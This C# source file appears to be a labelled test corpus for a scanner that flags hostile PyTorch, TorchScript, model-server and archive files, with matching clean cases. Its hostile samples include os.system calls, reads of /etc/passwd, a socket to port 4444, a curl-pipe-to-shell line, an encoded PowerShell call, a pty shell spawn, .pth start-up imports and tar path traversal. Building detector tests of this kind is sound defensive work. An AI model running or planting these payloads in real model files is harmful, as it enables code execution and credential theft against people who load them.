using System.Formats.Tar;
using MlSecPol.Engine.Tests.Artifacts;
using MlSecPol.Engine.Tests.Models;
using MlSecPol.Engine.Tests.Models.PyTorch;
using static MlSecPol.Engine.Tests.Models.PyTorch.TorchSamples;

namespace MlSecPol.Engine.Tests.Corpus;

/// <summary>Labelled PyTorch archives, packages with code in them, and packed models.</summary>
internal static class TorchCases
{
    public static IEnumerable<CorpusCase> All() => [.. Hostile(), .. Clean()];

    private static IEnumerable<CorpusCase> Hostile()
    {
        foreach (var (name, lines) in HostileScripts()) yield return new CorpusCase("TorchScript: " + name, "m.pt", Script(lines), IsHostile: true);
        foreach (var (name, source) in HostilePython()) yield return new CorpusCase("Python: " + name, "m.zip", Python(source), IsHostile: true);
        foreach (var (name, file, content) in HostileFiles()) yield return new CorpusCase(name, file, content, IsHostile: true);
    }

    private static IEnumerable<CorpusCase> Clean()
    {
        foreach (var (name, lines) in CleanScripts()) yield return new CorpusCase("TorchScript: " + name, "m.pt", Script(lines), IsHostile: false);
        foreach (var (name, source) in CleanPython()) yield return new CorpusCase("Python: " + name, "m.zip", Python(source), IsHostile: false);
        foreach (var (name, file, content) in CleanFiles()) yield return new CorpusCase(name, file, content, IsHostile: false);
    }

    private static IEnumerable<(string Name, string Lines)> HostileScripts()
    {
        yield return ("save", "torch.save(x, \"/tmp/out\")");
        yield return ("save with blanks", "torch . save (x, \"/tmp/out\")");
        yield return ("save over lines", "_0 = (torch\n  .save)(x, \"f\")");
        yield return ("save over a continued line", "torch.\\\n  save(x, \"f\")");
        yield return ("save by another name", "_0 = torch.save\n_0(x, \"f\", )");
        yield return ("save by its namespace", "ops.aten.save(x, \"f\")");
        yield return ("save behind a string with quotes", "_0 = \"it's \\\" # \"\ntorch.save(x, \"f\")");
        yield return ("save behind a comment", "# harmless\ntorch.save(x, \"f\")");
        yield return ("file as a tensor", "_0 = torch.from_file(\"/etc/passwd\", False, 10, dtype=0)");
        yield return ("file as a tensor by its namespace", "_0 = ops.aten.from_file(\"/etc/shadow\", True, 10)");
        yield return ("library by torch.ops", "torch.ops.load_library(\"/tmp/x.so\")");
        yield return ("library by ops", "ops.load_library(\"/tmp/x.so\")");
        yield return ("library of classes", "torch.classes.load_library(\"/tmp/x.so\")");
        yield return ("import", "import os");
        yield return ("import from", "from os import system");
        yield return ("eval", "_0 = eval(\"1\")");
        yield return ("exec", "exec(\"x\")");
        yield return ("import by a function", "_0 = __import__(\"os\").system(\"id\")");
        yield return ("open", "_0 = open(\"/etc/passwd\").read()");
        yield return ("system", "os.system(\"id\")");
        yield return ("subprocess", "subprocess.call([\"id\"])");
        yield return ("load", "_0 = torch.load(\"x.pkl\")");
        yield return ("load of TorchScript", "_0 = torch.jit.load(\"x.pt\")");
        yield return ("hub", "_0 = torch.hub.load(\"a/b\", \"c\")");
        yield return ("remote call", "_0 = rpc_async(\"worker\", __torch__.f, (x,))");
        yield return ("remote call by its namespace", "_0 = ops.prim.rpc_sync(\"worker\", x)");
        yield return ("collective", "_0 = ops.c10d.broadcast_([x], 0)");
        yield return ("file store", "_0 = __torch__.torch.classes.dist_c10d.FileStore.__new__(__torch__.torch.classes.dist_c10d.FileStore)");
        yield return ("interpreter", "_0 = (x).__class__.__subclasses__()");
        yield return ("globals", "_0 = x.forward.__globals__");
    }

    private static IEnumerable<(string Name, string Source)> HostilePython()
    {
        yield return ("system", "import os\nos.system('id')\n");
        yield return ("renamed module", "import os as harmless\nharmless.system('id')\n");
        yield return ("renamed function", "from os import popen as p\nx = p('id')\n");
        yield return ("everything of a module", "from subprocess import *\nrun(['id'])\n");
        yield return ("module as a value", "import os\no = os\no.system('id')\n");
        yield return ("two modules of one name", "import os as x\nx.system('id')\nimport json as x\n");
        yield return ("exec of packed text", "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n");
        yield return ("attribute by name", "import os\ngetattr(os, 'sys' + 'tem')('id')\n");
        yield return ("expression in a string", "x = f\"{__import__('os').system('id')}\"\n");
        yield return ("letters of another shape", "\uff45\uff56\uff41\uff4c('1+1')\n");
        yield return ("builtins", "__builtins__['ev' + 'al']('1')\n");
        yield return ("socket", "import socket\ns = socket.socket()\ns.connect(('10.0.0.1', 4444))\n");
        yield return ("download", "import urllib.request\nurllib.request.urlopen('http://a.example/x')\n");
        yield return ("native library", "import ctypes\nctypes.CDLL('./x.so')\n");
        yield return ("another encoding", "# -*- coding: utf-7 -*-\nx = 1\n");
        yield return ("import by text", "import importlib\nimportlib.import_module('subprocess').run(['id'])\n");
        yield return ("inside of a class", "class Handler:\n    def initialize(self, context):\n        import subprocess\n        subprocess.Popen('id', shell=True)\n");
        yield return ("marshalled code", "import marshal, types\nmarshal.loads(b'')\n");
    }

    private static IEnumerable<(string Name, string File, byte[] Content)> HostileFiles()
    {
        const string system = "import os\nos.system('id')\n";
        yield return ("TorchScript: packed member", "m.pt", Script("torch.save(x, \"f\")", method: 8));
        yield return ("TorchScript: second module", "m.pt", Archive("class M(Module):\n  __parameters__ = []\n").Add("m/code/__torch__/torch/nn/modules/linear.py", Bytes("def f(x: Tensor) -> Tensor:\n  torch.save(x, \"f\")\n  return x\n"), 8).Build());
        yield return ("TorchScript: without its pickle", "m.pt", Package(("m/code/__torch__.py", Bytes("def f(x: Tensor):\n  torch.save(x, \"f\")\n")), ("m/version", Bytes("3"))));
        yield return ("TorchScript: phone code that saves", "m.ptl", Mobile("aten::add", "aten::save"));
        yield return ("TorchScript: phone code that maps a file", "m.ptl", Mobile("aten::from_file"));
        yield return ("TorchScript: inside of a tar", "m.tar", Tar(("model/m.pt", Script("torch.save(x, \"f\")"))));
        yield return ("Exported: target in torch", "m.pt2", Exported("torch.hub.load", "2*s0"));
        yield return ("Exported: walk through torch", "m.pt2", Exported("torch.os.system", "s0"));
        yield return ("Exported: expression that imports", "m.pt2", Exported("torch.ops.aten.add.Tensor", "__import__('os').system('id')"));
        yield return ("Exported: expression with an attribute", "m.pt2", Exported("torch.ops.aten.add.Tensor", "s0.func"));
        yield return ("Exported: library operator", "m.pt2", Exported("torch.ops.load_library", "s0"));
        yield return ("Exported: saves", "m.pt2", Exported("torch.ops.aten.from_file.default", "s0"));
        yield return ("Exported: compiled library", "m.pt2", Exported("torch.ops.aten.add.Tensor", "s0", ("data/aotinductor/model/x.so", Elf)));
        yield return ("Exported: weights that are a program", "m.pt2", Exported("torch.ops.aten.add.Tensor", "s0", ("data/sample_inputs/model.pt", new ZipAssembler().Add("a/data.pkl", Samples.Hostile).Build())));
        yield return ("Served: handler that runs commands", "m.mar", Served("handler.py", system));
        yield return ("Served: handler outside", "m.mar", Served("../../handler.py", null));
        yield return ("Served: weights that run code", "m.mar", Package(("MAR-INF/MANIFEST.json", Bytes("""{"model": {"handler": "image_classifier", "serializedFile": "m.pt"}}""")), ("m.pt", Samples.Hostile)));
        yield return ("Served: packed tar", "m.mar", Gzip(Tar(("MAR-INF/MANIFEST.json", Bytes("""{"model": {"handler": "handler.py:run"}}""")), ("handler.py", Bytes(system)))));
        yield return ("Package: library of Unix", "m.zip", Package(("m/data.pkl", Samples.Plain), ("m/lib/op.so", Elf)));
        yield return ("Package: library under another name", "m.zip", Package(("weights.bin", Elf), ("readme.txt", Bytes("text"))));
        yield return ("Package: program of Windows in a tar", "m.tar", Tar(("model/setup.dat", WindowsProgram)));
        yield return ("Package: library of macOS", "m.zip", Package(("lib.dylib", MachO)));
        yield return ("Package: byte code", "m.zip", Package(("pkg/__init__.pyc", ByteCode), ("pkg/data.json", Bytes("{}"))));
        yield return ("Package: start-up file", "m.zip", Package(("sitecustomize.py", Bytes("x = 1\n"))));
        yield return ("Package: path file that imports", "m.zip", Package(("evil.pth", Bytes("import os; os.getcwd()\n"))));
        yield return ("Package: shell script", "m.tar", Tar(("run.sh", Bytes("#!/bin/sh\ncurl http://a.example/x | sh\n"))));
        yield return ("Package: script by its name", "m.zip", Package(("install.bat", Bytes("@echo off\r\npowershell -enc AAAA\r\n"))));
        yield return ("Package: Python script by its first line", "m.zip", Package(("tool", Bytes("#!/usr/bin/env python3\nimport pty\npty.spawn('/bin/sh')\n"))));
        yield return ("Program by itself", "m.bin", Elf);
        yield return ("NeMo: library in the archive", "m.nemo", Tar(("./model_config.yaml", Bytes("name: m\n")), ("./x.so", Elf)));
        yield return ("NeMo: weights that run code", "m.nemo", Tar(("./model_config.yaml", Bytes("name: m\n")), ("./model_weights.ckpt", new ZipAssembler().Add("a/data.pkl", Samples.Hostile).Build())));

        yield return ("Old tar: program", "m.tar", OldTar(pickle: Samples.Hostile));
        yield return ("Old tar: storage", "m.tar", OldTar(storage: Samples.Hostile));
        yield return ("Old tar: tensor", "m.tar", OldTar(tensor: Samples.Hostile));
        yield return ("Old tar: behind the storages", "m.tar", OldTar(behind: Samples.Hostile));
        yield return ("Old tar: storage that leaves the member", "m.tar", OldTar(elements: 1L << 40));

        foreach (var (method, content) in PackedSamples.SevenZipMethods) yield return ($"7z: {method}", "m.7z", content);
        yield return ("7z: several files together", "m.7z", PackedSamples.SevenZipSolid);
        yield return ("7z: filtered for programs", "m.7z", PackedSamples.SevenZipBranches);
        yield return ("7z: named as a checkpoint", "m.pt", PackedSamples.SevenZipSolid);
        yield return ("7z: in a zip", "m.zip", Package(("inner.dat", PackedSamples.SevenZipSolid)));
        yield return ("7z: pickle behind it", "m.7z", [.. PackedSamples.SevenZipClean, .. Samples.Hostile]);
        yield return ("Zstandard: pickle", "m.pkl.zst", PackedSamples.Zstandard);
        yield return ("Zstandard: behind a skippable frame", "m.zst", [0x50, 0x2A, 0x4D, 0x18, 4, 0, 0, 0, 1, 2, 3, 4, .. PackedSamples.Zstandard]);
        yield return ("Zstandard: skippable frame behind it", "m.zst", [.. PackedSamples.Zstandard, 0x5F, 0x2A, 0x4D, 0x18, 2, 0, 0, 0, 1, 2]);
        yield return ("Zstandard: pickle behind it", "m.zst", [.. PackedSamples.Zstandard, .. Samples.Hostile]);
        yield return ("Zstandard: in a tar", "m.tar", Tar(("m.bin", PackedSamples.Zstandard)));
        yield return ("lz4: legacy frames", "m.lz4", PackedSamples.Lz4Legacy);
        foreach (var (check, content) in PackedSamples.Xz) yield return ($"xz: {check}", "m.xz", content);
        yield return ("gzip: payload in the second member", "m.pkl.gz", [.. Gzip(Samples.Plain), .. Gzip(Samples.Hostile)]);

        yield return ("tar: link", "m.tar", TarOf(t => t.WriteEntry(new PaxTarEntry(TarEntryType.SymbolicLink, "weights") { LinkName = "/etc/passwd" })));
        yield return ("tar: hard link", "m.tar", TarOf(t => t.WriteEntry(new PaxTarEntry(TarEntryType.HardLink, "weights") { LinkName = "../x" })));
        yield return ("tar: device", "m.tar", TarOf(t => t.WriteEntry(new PaxTarEntry(TarEntryType.CharacterDevice, "null"))));
        yield return ("tar: way out", "m.tar", Tar(("../../up.txt", Bytes("x"))));
        yield return ("tar: way out by a header for all", "m.tar", TarOf(t =>
        {
            t.WriteEntry(new PaxGlobalExtendedAttributesTarEntry(new Dictionary<string, string>(StringComparer.Ordinal) { ["path"] = "../../.bashrc" }));
            t.WriteEntry(new UstarTarEntry(TarEntryType.RegularFile, "a.txt") { DataStream = new MemoryStream(Bytes("x")) });
        }));
        yield return ("tar: entry behind the end", "m.tar", [.. Tar(("a.txt", Bytes("x"))), .. Tar(("b.bin", Samples.Hostile))]);
        yield return ("OCI: layer with a pickle", "m.tar", Image(Gzip(Tar(("model/w.bin", Samples.Hostile)))));
        yield return ("OCI: layer with a library", "m.tar", Image(Tar(("opt/x", Elf))));
    }

    private static IEnumerable<(string Name, string Lines)> CleanScripts()
    {
        yield return ("linear", "weight = self.weight\nbias = self.bias\n_0 = torch.linear(x, weight, bias)");
        yield return ("names in strings", "_0 = \"torch.save(x, 'f')\"\n_1 = 'import os; os.system(1)'\n_2 = \"eval(\"");
        yield return ("names in comments", "# torch.save(x) import os eval(1) ops.evil.run(x)");
        yield return ("print and format", "print(\"hello\", torch.size(x))\n_0 = torch.format(\"a{}b\", 1)");
        yield return ("exception", "ops.prim.RaiseException(torch.add(\"bad \", \"open(\"), \"builtins.RuntimeError\")");
        yield return ("variable named like a module", "os = torch.full([2], inf)\n_0 = torch.to(os, 5)");
        yield return ("annotations", "out = annotate(Dict[str, Tensor], {})\nk0 = unchecked_cast(int, 3)\n_0 = uninitialized(Tensor)");
        yield return ("fork", "def __forked_function():\n  return __torch__.foo(x, )\nf = fork(__forked_function)\ny = torch.wait(f)");
        yield return ("profiler", "_0 = ops.profiler._record_function_enter(\"open\", None)\nops.profiler._record_function_exit(_0)");
        yield return ("quantized", "_packed_params = self._packed_params\n_0 = ops.quantized.linear(x, _packed_params, 0.5, 0)");
        yield return ("prepacked class", "_0 = unchecked_cast(__torch__.torch.classes.quantized.LinearPackedParamsBase, self.p)");
        yield return ("torchvision", "_0 = ops.torchvision.nms(x, x, 0.5)");
        yield return ("object", "c = __torch__.Counter.__new__(__torch__.Counter)\n_0 = (c).__init__(3, )\n_1 = (c).eval(1, )");
        yield return ("hoisted function", "_3 = __torch__.torch.nn.functional._verify_batch_size\n_4 = _3(torch.size(x), )");
        yield return ("context", "with _15:\n  torch._set_item(out, \"n\", torch.detach(x))");
        yield return ("special functions", "_0 = torch.__isnot__(x, None)\n_1 = torch.__contains__(x, 1)\n_2 = torch.load_state(x)");
        yield return ("constants", "_0 = CONSTANTS.c0\n_1 = torch.slice(CONSTANTS.c1, 0, -1)");
        yield return ("named attribute", "_0 = getattr(self, \"0\")\n_1 = getattr(self, \"os.system\")");
    }

    private static IEnumerable<(string Name, string Source)> CleanPython()
    {
        yield return ("a name for a part of itself", "import numpy as x\nx = x.linalg\n");
        yield return ("module of a network", "import torch\nfrom torch import nn\n\nclass Net(nn.Module):\n    \"\"\"Uses os.system? No: exec and eval are words.\"\"\"\n    def __init__(self):\n        super().__init__()\n        self.fc = nn.Linear(2, 2)\n\n    def forward(self, x):\n        return self.fc(x)\n");
        yield return ("handler", "import os\nimport json\nimport logging\nimport torch\n\nclass Handler:\n    def initialize(self, context):\n        d = context.system_properties.get('model_dir')\n        self.model = torch.jit.load(os.path.join(d, 'model.pt'))\n        self.model.eval()\n        with open(os.path.join(d, 'index.json')) as f:\n            self.names = json.load(f)\n");
        yield return ("compiled pattern", "import re\nP = re.compile('eval')\ndef compile_model(m):\n    return torch.compile(m)\n");
        yield return ("methods with famous names", "class A:\n    def exec(self, eval=None):\n        return self.eval(eval=eval)\n");
        yield return ("environment", "import os, sys\nos.environ.setdefault('A', '1')\nsys.path.append('.')\nprint(f'{os.getcwd()!r} {sys.version}')\n");
        yield return ("plain getattr", "import torch\nact = getattr(torch.nn, 'ReLU')()\n");
        yield return ("coding line", "# -*- coding: utf-8 -*-\nx = 'ü'\n");
        yield return ("package", "from .model import Net\n__all__ = ['Net']\n");
    }

    private static IEnumerable<(string Name, string File, byte[] Content)> CleanFiles()
    {
        yield return ("TorchScript: old format with imports", "m.pt", Source("op_version_set = 1\nimport __torch__.torch.nn.modules.linear\nclass M(Module):\n  __parameters__ = []\n  fc : __torch__.torch.nn.modules.linear.Linear\n"));
        yield return ("TorchScript: named tuple and interface", "m.pt", Source("class P(NamedTuple):\n  a : int\n  b : Optional[str]\nclass Sub(ModuleInterface):\n  def forward(self: __torch__.Sub,\n    x: Tensor) -> Tensor:\n    pass\nclass Color(Enum):\n  RED : int = 1\n"));
        yield return ("TorchScript: attribute with a number for a name", "m.pt", Source("class S(Module):\n  __parameters__ = []\n  __annotations__[\"0\"] = __torch__.torch.nn.modules.linear.Linear\n"));
        yield return ("TorchScript: packed, with notes", "m.pt", Archive("class M(Module):\n  training : bool\n", 8).Add("m/extra/note.txt", Bytes("import os; os.system('id')")).Build());
        yield return ("TorchScript: phone code", "m.ptl", Mobile("aten::linear", "aten::relu", "quantized::linear", "prim::ListConstruct"));
        yield return ("Checkpoint with numbers like programs", "m.pt", new ZipAssembler().Add("m/data.pkl", Samples.Plain).Add("m/data/0", Elf).Add("m/data/1", WindowsProgram).Add("m/data/2", [.. "#!/bin/sh\n"u8, 1, 2, 3]).Build());
        yield return ("Exported program", "m.pt2", Exported("torch.ops.aten.add.Tensor", "Max(1, 2*s0 + FloorDiv(s1, 2))", ("extra/note.txt", Bytes("text"))));
        yield return ("Exported program with arithmetic", "m.pt2", Exported("_operator.add", "((s0//2)) % 8 + 1.5"));
        yield return ("Exported program with a higher-order operator", "m.pt2", Exported("torch.ops.higher_order.cond", "u0"));
        yield return ("Served with a handler of the server", "m.mar", Served("image_classifier", null));
        yield return ("Package with a harmless module", "m.zip", Package(("m/data.json", Bytes("{}")), ("m/README.md", Bytes("Run os.system? Never.")), ("m/net.py", Bytes("import torch\n"))));
        yield return ("Path file with paths", "m.zip", Package(("a.pth", Bytes("../lib\n/opt/x\n"))));
        yield return ("Empty module", "m.zip", Package(("pkg/__init__.py", []), ("pkg/data.txt", Bytes("x"))));
        yield return ("NeMo", "m.nemo", Tar(("./model_config.yaml", Bytes("name: m\n")), ("./model_weights.ckpt", new ZipAssembler().Add("a/data.pkl", Samples.Plain).Build())));
        yield return ("Old tar", "m.tar", OldTar());
        yield return ("7z", "m.7z", PackedSamples.SevenZipClean);
        yield return ("gzip with two members", "m.gz", [.. Gzip(Bytes("hello ")), .. Gzip(Bytes("world"))]);
        yield return ("tar", "m.tar", Tar(("a.txt", Bytes("x")), ("b.json", Bytes("{}"))));
        yield return ("OCI image", "m.tar", Image(Gzip(Tar(("model/w.pkl", Samples.Plain)))));
    }
}
